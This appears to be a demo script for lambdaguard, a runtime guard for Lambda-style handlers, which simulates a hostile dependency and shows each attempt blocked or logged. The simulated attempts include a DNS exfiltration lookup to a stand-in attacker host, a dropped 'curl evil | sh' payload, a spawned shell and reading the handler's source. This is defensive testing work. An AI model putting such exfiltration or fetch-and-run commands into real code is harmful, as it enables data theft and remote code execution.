"""`make demo`: a guarded Lambda-style handler whose dependency turns hostile.

Runs with no AWS account: a fake Lambda context, a TCP server on 127.0.0.1 standing in for
the function's real API, and the JSON lines lambdaguard writes to standard output, where
Lambda would send them to CloudWatch Logs. After each step the demo prints the raw lines
(what CloudWatch receives) and a one-line reading of each.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# The demo's own folder plays the Lambda task root (/var/task): the handler's source.
TASK_ROOT = Path(__file__).resolve().parent
os.environ["LAMBDA_TASK_ROOT"] = str(TASK_ROOT)

from lambdaguard import Network, Violation, guard  # noqa: E402  (after LAMBDA_TASK_ROOT)


@dataclass
class FakeLambdaContext:
    function_name: str = "demo-function"
    memory_limit_in_mb: int = 128
    invoked_function_arn: str = "arn:aws:lambda:eu-west-1:123456789012:function:demo-function"
    aws_request_id: str = "c6af9ac6-7b61-11e6-9a41-93e812345678"


class _Hello(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.request.recv(1024)
        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")


def start_server() -> socketserver.TCPServer:
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Hello)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def show(title: str, step: Callable[[], object]) -> None:
    """Run one step, then print its result, the raw JSON lines and a reading of each."""
    print(f"\n### {title}", flush=True)
    captured = io.StringIO()
    with contextlib.redirect_stdout(captured):
        result = step()
    lines = [line for line in captured.getvalue().splitlines() if '"lambdaguard"' in line]
    for line in lines:
        print(line)
    for line in lines:
        body = json.loads(line)["lambdaguard"]
        if body["event"] == "violation":
            where = os.path.basename(body["location"])
            what = f"{body['policy']} {body['action']} {body['target']}"
            print(f"  -> {body['mode']:<5} {what}  ({where})")
        elif body["event"] == "suppressed":
            kind = f"{body['policy']} {body['mode']}"
            print(f"  -> summary: {body['suppressed']} more {kind} lines suppressed")
    print(f"  result: {result}", flush=True)


def attempt(label: str, action: Callable[[], object], results: dict[str, str]) -> None:
    try:
        action()
        results[label] = "went ahead"
    except Violation as exc:
        results[label] = f"blocked ({type(exc).__name__})"


def main() -> None:
    server = start_server()
    port = server.server_address[1]
    payload = Path(tempfile.gettempdir()) / "lambdaguard-demo-payload.sh"
    marker = Path(tempfile.gettempdir()) / "lambdaguard-demo-ran"
    for leftover in (payload, marker):
        leftover.unlink(missing_ok=True)

    @guard(
        network=Network("block", allow=[f"127.0.0.1:{port}"]),
        tmp="block",
        subprocess="block",
        handler_source="block",
    )
    def handler(event: dict[str, str], context: FakeLambdaContext) -> dict[str, str]:
        results: dict[str, str] = {}
        body = urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).read()
        results["allowed API call"] = body.decode()
        # What a hostile dependency tries next:
        attempt(
            "phone home", lambda: socket.create_connection(("127.0.0.1", 9), timeout=2), results
        )
        attempt(
            "DNS exfiltration", lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 53), results
        )
        attempt("drop a file in /tmp", lambda: payload.write_text("curl evil | sh"), results)
        attempt("spawn a shell", lambda: subprocess.run(f"touch {marker}", shell=True), results)
        attempt("read the handler's source", lambda: Path(__file__).read_text(), results)
        return results

    show(
        "1. A guarded handler: its API call works, the payloads do not",
        lambda: handler({}, FakeLambdaContext()),
    )
    print(f"  /tmp payload exists: {payload.exists()}; shell ran: {marker.exists()}")

    def alerted() -> str:
        with (
            guard(network="alert"),
            socket.create_connection(("127.0.0.1", port), timeout=5) as sock,
        ):
            sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return sock.recv(64).split(b"\r\n")[0].decode()

    show("2. Alert mode: the connection goes ahead, and is logged", alerted)

    os.environ["LAMBDAGUARD_REPORT_LIMIT"] = "3"  # read when the next guard is built

    @guard(network="block")
    def flooding(event: dict[str, str], context: FakeLambdaContext) -> str:
        for _ in range(10_000):
            with contextlib.suppress(Violation):
                socket.getaddrinfo("flood.attacker.example", 443)
        return "10,000 blocked lookups"

    show(
        "3. A flood is capped per invocation (LAMBDAGUARD_REPORT_LIMIT=3 here)",
        lambda: flooding({}, FakeLambdaContext()),
    )
    server.shutdown()
    sys.stdout.flush()


if __name__ == "__main__":
    main()
